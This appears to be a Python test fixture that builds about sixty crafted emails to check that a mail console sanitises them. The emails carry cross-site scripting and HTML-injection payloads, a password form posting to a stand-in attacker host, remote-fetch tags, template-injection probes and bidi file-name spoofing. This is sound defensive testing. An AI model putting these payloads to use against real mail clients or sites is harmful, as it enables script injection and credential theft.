"""Mails that try to run, fetch or pose as something in the console. Each says what it tries."""

from __future__ import annotations

from email.message import EmailMessage

_ELSEWHERE = "http://evil.example"

_HTML = {
    "script": "<script>window.pwned=1</script>",
    "script_in_a_broken_tag": "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "script_from_elsewhere": f"<script src='{_ELSEWHERE}/x.js'></script>",
    "image_handler": "<img src=x onerror='window.pwned=1'>",
    "image_fetch": f"<img src='{_ELSEWHERE}/pixel.gif'>",
    "image_srcset": f"<img srcset='{_ELSEWHERE}/a.gif 2x'>",
    "svg_onload": "<svg onload='window.pwned=1'><circle r='9'/></svg>",
    "svg_script": "<svg><script>window.pwned=1</script></svg>",
    "svg_use": f"<svg><use href='{_ELSEWHERE}/s.svg#x'/></svg>",
    "svg_animate": "<svg><a><animate attributeName='href' values='javascript:window.pwned=1'/>x</a></svg>",
    "mathml": "<math><mtext><img src=x onerror='window.pwned=1'></mtext></math>",
    "style_import": f"<style>@import '{_ELSEWHERE}/x.css';</style>",
    "style_background": f"<div style=\"background:url('{_ELSEWHERE}/b.png')\">hola</div>",
    "style_covers_the_page": "<div style='position:fixed;inset:0;background:red'>Pulse aquí</div>",
    "style_expression": "<div style='width:expression(window.pwned=1)'>x</div>",
    "link_stylesheet": f"<link rel=stylesheet href='{_ELSEWHERE}/x.css'>",
    "link_prefetch": f"<link rel=prefetch href='{_ELSEWHERE}/p'>",
    "meta_refresh": f"<meta http-equiv=refresh content='0;url={_ELSEWHERE}/'>",
    "meta_csp": "<meta http-equiv=Content-Security-Policy content='script-src *'>",
    "base": f"<base href='{_ELSEWHERE}/'><a href='x'>x</a>",
    "form": f"<form action='{_ELSEWHERE}/steal'><input name=clave autofocus><button>Entrar</button></form>",
    "form_autofill": f"<form action='{_ELSEWHERE}'><input type=password name=p></form>",
    "javascript_link": "<a href='javascript:window.pwned=1'>pulse</a>",
    "javascript_link_in_disguise": "<a href='java&#10;script:window.pwned=1'>pulse</a>",
    "data_link": "<a href='data:text/html,<script>parent.pwned=1</script>'>pulse</a>",
    "link_target_top": f"<a href='{_ELSEWHERE}' target=_top>pulse</a>",
    "iframe": f"<iframe src='{_ELSEWHERE}/'></iframe>",
    "iframe_srcdoc": "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "object": f"<object data='{_ELSEWHERE}/x.swf'></object>",
    "embed": f"<embed src='{_ELSEWHERE}/x'>",
    "video": f"<video src='{_ELSEWHERE}/v.mp4' autoplay poster='{_ELSEWHERE}/p.png'></video>",
    "audio": f"<audio src='{_ELSEWHERE}/a.mp3' autoplay></audio>",
    "details_toggle": "<details open ontoggle='window.pwned=1'>x</details>",
    "body_onload": "<body onload='window.pwned=1'>x</body>",
    "focus_handler": "<p tabindex=0 autofocus onfocus='window.pwned=1'>x</p>",
    "marquee_handler": "<marquee onstart='window.pwned=1'>x</marquee>",
    "template": "<template><script>window.pwned=1</script></template>",
    "noscript": "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'></noscript>",
    "comment_trick": "<!--><script>window.pwned=1</script>-->",
    "cdata_trick": "<![CDATA[<script>window.pwned=1</script>]]>",
    "title_trick": "<title><img title='</title><script>window.pwned=1</script>'></title>",
    "textarea_trick": "<textarea></textarea><script>window.pwned=1</script>",
    "table_background": f"<table background='{_ELSEWHERE}/t.png'><tr><td>x</td></tr></table>",
    "null_bytes": "<scr\0ipt>window.pwned=1</scr\0ipt>",
    "half_a_tag": "<img src=x onerror=window.pwned=1//",
    "htmx_attributes": "<div hx-get='/salir' hx-trigger='load' hx-on:load='window.pwned=1'>x</div>",
    "htmx_data_attributes": "<div data-hx-post='/salir' data-hx-trigger='load'>x</div>",
    "our_own_ids": "<form id='approve'><input name='token'></form><a data-row='X'>x</a>",
    "deep": "<div>" * 3000 + "x" + "</div>" * 3000,
    "huge": "<p>" + "palabra " * 120_000 + "</p>",
}
_TEXT = {
    "text_script": "</div><script>window.pwned=1</script>",
    "text_mark": "</mark><img src=x onerror=window.pwned=1>",
    "text_template": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "text_bidi": "Soy \u202eairaM\u202c y mi clave \u2066hola",
    "text_control": "\x1b[31mrojo\x07 \x00 \x9b",
}
_HEADERS = {
    "sender_markup": {"From": '"<img src=x onerror=window.pwned=1>" <a@b.test>'},
    "subject_markup": {"Subject": "</title><script>window.pwned=1</script>"},
    "subject_bidi": {"Subject": "\u202egpj.exe \u2067x"},
    "file_name_markup": {},
    "broken_charset": {"Content-Type": "text/html; charset=x-no-such"},
}


def mails() -> dict[str, bytes]:
    """Sixty of them, by what they try."""
    made = {name: _mail(html=html) for name, html in _HTML.items()}
    made |= {name: _mail(text=text) for name, text in _TEXT.items()}
    for name, headers in _HEADERS.items():
        lines = {
            "From": "a@b.test",
            "Subject": "iPasen",
            "Content-Type": "text/html; charset=utf-8",
        } | headers
        head = "".join(f"{key}: {value}\r\n" for key, value in lines.items())
        made[name] = (head + "\r\n<p>Hola</p><script>window.pwned=1</script>\r\n").encode()
    made["file_name_markup"] = _mail(text="Va adjunto.", attachment="<img src=x onerror=window.pwned=1>.html")
    return {
        name: mail.replace(b"a@b.test", f"{name.replace('_', '.')}@b.test".encode())
        for name, mail in made.items()
    }


def _mail(*, text: str = "Hola, no puedo entrar.", html: str = "", attachment: str = "") -> bytes:
    if html and "\0" in html:
        return (
            b"From: a@b.test\r\nSubject: iPasen\r\nContent-Type: text/html\r\n\r\n" + html.encode() + b"\r\n"
        )
    mail = EmailMessage()
    mail["From"], mail["Subject"] = "a@b.test", "iPasen"
    mail.set_content(text)
    if html:
        mail.add_alternative(html, subtype="html")
    if attachment:
        mail.add_attachment(b"<script>parent.pwned=1</script>", "text", "html", filename=attachment)
    return mail.as_bytes()
